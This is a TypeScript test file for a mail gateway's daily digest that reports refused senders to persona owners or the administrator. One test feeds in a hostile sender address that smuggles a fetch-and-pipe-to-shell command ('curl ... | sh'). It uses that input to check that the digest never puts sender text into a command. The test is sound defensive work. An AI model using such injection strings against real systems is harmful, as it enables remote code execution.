import { simpleParser } from 'mailparser';
import { afterEach, describe, expect, it } from 'vitest';
import { tellOfRefusedSenders } from '../../../engine/app/refused/daily-digest.ts';
import { createRefusedDigestWriter } from '../../../engine/app/refused/digest-mail.ts';
import { silentLog } from '../../../engine/lib/log/log.ts';
import { openWorkspace } from '../../../engine/workspace.ts';
import { makeWorkspace } from '../../flow/workspace.ts';

const closers: (() => unknown)[] = [];
afterEach(async () => {
  for (const close of closers.splice(0).reverse()) await close();
});

const DAY = 86_400_000;
const NOW = Date.parse('2026-11-23T09:00:00Z');
const BOSS = 'boss@owner.test';
const ANNA = 'anna@owner.test';

/** Ada and Ben are the boss's; Ben is Anna's, too. */
async function site(security: object = {}) {
  const folder = makeWorkspace({
    'configs/gateway.json': { smtp_listener: { port: 0 } },
    'configs/security.json': security,
    'personas/ada/persona.json': {
      name: 'Ada',
      address: 'ada@agents.test',
      owners: [BOSS],
      access: { allow: ['*@member.test'], deny: ['rude@out.test'] },
    },
    'personas/cleo/persona.json': { name: 'Cleo', address: 'cleo@agents.test' },
    'configs/system.json': { admin_contact: 'admin@owner.test' },
    'personas/ben/persona.json': { name: 'Ben', address: 'ben@agents.test', owners: [BOSS, ANNA] },
  });
  const opened = openWorkspace({
    root: folder.root,
    settings: { testNow: null, crashAt: null } as Parameters<typeof openWorkspace>[0]['settings'],
    makeLog: () => silentLog,
  });
  closers.push(folder.remove, opened.close);
  const time = { now: NOW, mails: 0 };
  const workspace = { ...opened, clock: { ...opened.clock, now: () => time.now } };
  const look = () => tellOfRefusedSenders({ workspace, announce: (_persona: string, _at: number, commit) => commit() });
  await look();
  return {
    time,
    workspace,
    look,
    /** A mail that was refused just now, or whatever `decision` says. */
    async came(
      from: string | null,
      code: string,
      { to = 'ada', subject = 'Offer', id = '', decision = 'refused' } = {},
    ) {
      time.mails += 1;
      await opened.gateway.recordSeen([
        {
          message_id: id || `<${time.mails}@out.test>`,
          persona_id: to,
          direction: 'in',
          decision: decision as 'refused',
          code,
          from_address: from,
          subject,
          received_at: time.now,
        },
      ]);
    },
    async aDayLater() {
      time.now += DAY;
      await look();
    },
    /** Who is told what, by whom, in the order of the mails. */
    async told() {
      const { gateway, live, ids, hint } = workspace;
      const writer = createRefusedDigestWriter({
        ...{ gateway, configs: live.current, clock: workspace.clock, ids, hint },
        nameOf: (id) => `${id[0]?.toUpperCase()}${id.slice(1)}`,
      });
      for (const id of ['ada', 'ben', 'cleo']) {
        await workspace.stores.use(id, async (store) => {
          const entry = live.personas().get(id);
          for (const job of await store.dueJobs(Number.MAX_SAFE_INTEGER, 100)) {
            if (entry?.state === 'ready') await writer.prepare(job)(entry.persona, store, new AbortController().signal);
          }
        });
      }
      const found = await Promise.all(
        ['ada', 'ben', 'cleo'].map((id) =>
          workspace.stores.use(id, async (store) =>
            Promise.all(
              (await store.listOutbox({ limit: 100 })).toReversed().map(async (row) => {
                const mail = await simpleParser(Buffer.from((await store.outboxRaw(row.id))?.raw ?? []));
                const to = Array.isArray(mail.to) ? mail.to[0] : mail.to;
                return {
                  by: id,
                  to: to?.text,
                  subject: mail.subject?.replace(/^\[\w+\] /, ''),
                  text: mail.text ?? '',
                  mail,
                };
              }),
            ),
          ),
        ),
      );
      return found.flat();
    },
  };
}

describe('senders whose mail was refused', () => {
  it('are told of once a day, in one mail to each owner, each sender once', async () => {
    const at = await site();
    await at.came('bob@out.test', 'sender_not_allowed');
    await at.came('bob@out.test', 'sender_not_allowed', { subject: 'Offer, again' });
    await at.came('carl@out.test', 'sender_not_allowed', { to: 'ben' });
    await at.look();
    expect(await at.told()).toEqual([]);

    await at.aDayLater();
    const told = await at.told();
    expect(told.map(({ to, by, subject }) => [to, by, subject])).toEqual([
      [BOSS, 'ada', 'Mail of 2 new senders was refused'],
      [ANNA, 'ben', 'Mail of 1 new sender was refused'],
    ]);
    const [boss, anna] = told;
    expect(boss?.text).toMatch(/^1\. carl@out\.test → Ben\n\n {2}> Offer$/m);
    expect(boss?.text).toMatch(/^2\. bob@out\.test → Ada \(2\)\n\n {2}> Offer, again$/m);
    // Each is answered under a token of its own.
    for (const { mail } of told) expect(mail.replyTo?.text).toMatch(/^(?:ada|ben)\+ok-[0-9a-f]{32}@agents\.test$/);
    expect(anna?.text).not.toContain('bob@out.test');

    // Nobody new: no mail, however often the same write.
    await at.came('bob@out.test', 'sender_not_allowed');
    await at.aDayLater();
    expect(await at.told()).toHaveLength(2);
    await at.came('dora@out.test', 'sender_not_allowed');
    await at.aDayLater();
    expect(await at.told()).toHaveLength(3);
  });

  it('are told of only where they may be people whom somebody knows', async () => {
    const at = await site();
    await at.came('mia@member.test', 'auth_failed');
    await at.came('spam@anywhere.test', 'auth_failed');
    await at.came('rude@out.test', 'sender_denied');
    await at.came('list@out.test', 'mailing_list', { decision: 'recorded' });
    await at.came(null, 'from_missing');
    await at.came('late@member.test', 'auth_failed', { id: '<late@member.test>' });
    await at.came('late@member.test', 'auth_failed', { id: '<late@member.test>', decision: 'accepted' });
    // A rule has let this one in since.
    await at.came('zoe@member.test', 'sender_not_allowed');
    await at.aDayLater();
    const [told, ...more] = await at.told();
    expect(more).toEqual([]);
    expect(told?.subject).toBe('Mail of 1 new sender was refused');
    expect(told?.text).toContain('nothing proves that the mail is really theirs');
    expect(told?.text).toContain('mia@member.test');
    for (const other of ['spam@', 'rude@', 'list@', 'late@', 'zoe@']) expect(told?.text).not.toContain(other);
  });

  it('fill no mail, however many they are, and put nothing of theirs into a command', async () => {
    const at = await site();
    const hostile = 'x|curl$IFS`evil`|sh@out.test';
    for (let one = 0; one < 60; one += 1) await at.came(`s${one}@out.test`, 'sender_not_allowed');
    await at.came('"allow 2 \u043e"@out.test', 'sender_not_allowed');
    await at.came(hostile, 'sender_not_allowed', { subject: `Hello\n\n${'long '.repeat(25)}` });
    await at.aDayLater();
    const [told, ...more] = await at.told();
    expect(more).toEqual([]);
    expect(told?.subject).toBe('Mail of 62 new senders was refused');
    expect(told?.text.split('\n').filter((line) => /^\d+\. /.test(line))).toHaveLength(10);
    expect(told?.text).toContain('… and 52 more');
    expect(told?.text).toMatch(/^1\. x\|curl.* → Ada\n\n {2}> Hello long .{30,50}…$/m);
    // No blank, and no letter that looks like another one.
    expect(told?.text).toContain('2. <U+0022>allow<U+0020>2<U+0020><U+043E><U+0022>@out.test → Ada');
    expect(told?.text.match(/`[^`]*`/g)?.join(' ')).not.toContain('curl');
  });

  it('are told of once after a crash between two owners, and after a clock that was set back', async () => {
    const at = await site();
    await at.came('carl@out.test', 'sender_not_allowed', { to: 'ben' });
    at.time.now += DAY;
    const since = await at.workspace.gateway.setting('refused_told_until', () => '');
    await at.look();
    await at.workspace.gateway.changeSetting('refused_told_until', since);
    await at.look();
    expect(await at.told()).toHaveLength(2);
    // What is dated ahead then counts as new once more; nothing is left out.
    at.time.now -= 400 * DAY;
    await at.look();
    await at.came('dora@out.test', 'sender_not_allowed');
    await at.aDayLater();
    expect(await at.told()).toHaveLength(4);
  });

  it('are told of to the administrator where there is no owner, whose answer would not count', async () => {
    const at = await site();
    await at.came('bob@out.test', 'sender_not_allowed', { to: 'cleo' });
    await at.aDayLater();
    const [told, ...more] = await at.told();
    expect(more).toEqual([]);
    expect(told).toMatchObject({ to: 'admin@owner.test', by: 'cleo' });
    expect(told?.mail.replyTo).toBeUndefined();
    expect(told?.text).toContain('senders allow ADDRESS');
  });

  it('are told of to nobody where refused mail is not kept', async () => {
    const at = await site({ quarantine_days: 0 });
    await at.came('bob@out.test', 'sender_not_allowed');
    await at.aDayLater();
    expect(await at.told()).toEqual([]);
  });
});
